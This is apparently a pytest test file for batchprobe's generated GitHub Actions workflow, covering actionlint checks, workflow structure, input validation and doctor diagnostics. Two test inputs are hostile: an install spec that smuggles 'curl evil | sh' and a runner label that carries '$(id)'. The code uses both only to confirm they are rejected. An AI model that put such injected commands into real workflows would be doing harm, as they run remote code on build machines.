"""The generated workflow: actionlint-clean, bounded, and what doctor checks."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from batchprobe.bridge.doctor import doctor
from batchprobe.bridge.presets import PRESETS
from batchprobe.bridge.workflow import (
    WORKFLOW_PATH,
    job_timeout_minutes,
    parse_runs_on,
    render_workflow,
    write_workflow,
)
from batchprobe.errors import BridgeError

from .gitutil import run_git


def _actionlint() -> str:
    # The test extra installs it into the same environment as the interpreter.
    search = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
    found = shutil.which("actionlint", path=search)
    if found is None:
        pytest.fail("actionlint is not installed: install batchprobe's test extra")
    return found


@pytest.mark.parametrize(
    "labels", [["self-hosted", "macOS", "ARM64"], ["self-hosted", "linux", "x64", "gpu-h100"]]
)
def test_the_workflow_passes_actionlint(tmp_path: Path, labels: list[str]) -> None:
    path = write_workflow(tmp_path, labels)
    # Custom self-hosted labels must be declared to actionlint, as a user's repo would.
    config = tmp_path / "actionlint.yaml"
    config.write_text("self-hosted-runner:\n  labels:\n    - gpu-h100\n")
    done = subprocess.run(
        [_actionlint(), "-no-color", "-oneline", "-config-file", str(config), str(path)],
        capture_output=True, text=True,
        cwd=tmp_path, check=False, timeout=120,
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr


def test_actionlint_is_not_a_rubber_stamp(tmp_path: Path) -> None:
    text = render_workflow(["self-hosted"]).replace("timeout-minutes: ", "timeout-minutes: x")
    bad = tmp_path / "bad.yml"
    bad.write_text(text)
    done = subprocess.run([_actionlint(), "-no-color", str(bad)], capture_output=True, check=False)
    assert done.returncode == 1


def test_the_workflow_structure() -> None:
    workflow = yaml.safe_load(render_workflow(["self-hosted", "macOS", "ARM64"]))
    trigger = workflow[True]["push"]  # YAML 1.1 reads the bare key `on` as true
    assert trigger["branches"] == ["batchprobe-bridge/**"]
    assert trigger["paths"] == [".batchprobe-bridge/request.json"]
    assert workflow["concurrency"]["cancel-in-progress"] is False
    job = workflow["jobs"]["execute"]
    assert job["runs-on"] == ["self-hosted", "macOS", "ARM64"]
    longest = max(preset.timeout_s for preset in PRESETS.values())
    assert job["timeout-minutes"] * 60 > longest
    assert job["timeout-minutes"] == job_timeout_minutes()
    ids = [step.get("id") for step in job["steps"]]
    assert ids == [None, "install", "execute", "publish", None]
    assert [step.get("if") for step in job["steps"]][3:] == ["always()", "always()"]
    assert "${{" not in job["steps"][2]["run"] + job["steps"][3]["run"]


@pytest.mark.parametrize("text", ["self-hosted,", "a b", "x,$(id)", "-x"])
def test_runner_labels_are_plain(text: str) -> None:
    with pytest.raises(BridgeError, match="runs-on label"):
        parse_runs_on(text)


def test_install_spec_is_plain() -> None:
    assert '"batchprobe[fast]==0.1.0"' in render_workflow(["x"], install="batchprobe[fast]==0.1.0")
    with pytest.raises(BridgeError, match="install spec"):
        render_workflow(["x"], install='." ; curl evil | sh ; "')


def test_write_refuses_to_overwrite_without_force(tmp_path: Path) -> None:
    write_workflow(tmp_path, ["self-hosted"])
    with pytest.raises(BridgeError, match="--force"):
        write_workflow(tmp_path, ["self-hosted"])
    assert write_workflow(tmp_path, ["linux"], force=True).read_text().count("[linux]") == 1


def test_doctor_passes_on_a_ready_repository(clone: Path) -> None:
    write_workflow(clone, ["self-hosted"])
    checks = doctor(clone, env={"BATCHPROBE_MODEL": "/m"})
    failed = [check for check in checks if check.status == "fail"]
    assert failed == []
    statuses = {check.name: check.status for check in checks}
    assert statuses["preset vllm-mlx-niah"] == "ok"
    assert statuses["preset url-niah"] == "info"  # BATCHPROBE_BASE_URL unset here
    # A dry run pushes nothing.
    assert "batchprobe-bridge" not in run_git(clone, "ls-remote", "origin")


def test_doctor_finds_the_problems(clone: Path) -> None:
    checks = {check.name: check for check in doctor(clone, remote="nowhere", env={})}
    assert checks["remote"].status == "fail"
    assert checks["push"].status == "fail"
    assert checks["workflow"].status == "fail" and "init-workflow" in checks["workflow"].detail
    path = write_workflow(clone, ["self-hosted"])
    path.write_text(
        path.read_text().replace(f"timeout-minutes: {job_timeout_minutes()}", "timeout-minutes: 5")
    )
    checks = {check.name: check for check in doctor(clone, env={})}
    assert checks["workflow"].status == "fail" and "below" in checks["workflow"].detail
    path.write_text("name: something else\n")
    checks = {check.name: check for check in doctor(clone, env={})}
    assert "lacks" in checks["workflow"].detail
    assert Path(clone / WORKFLOW_PATH).is_file()
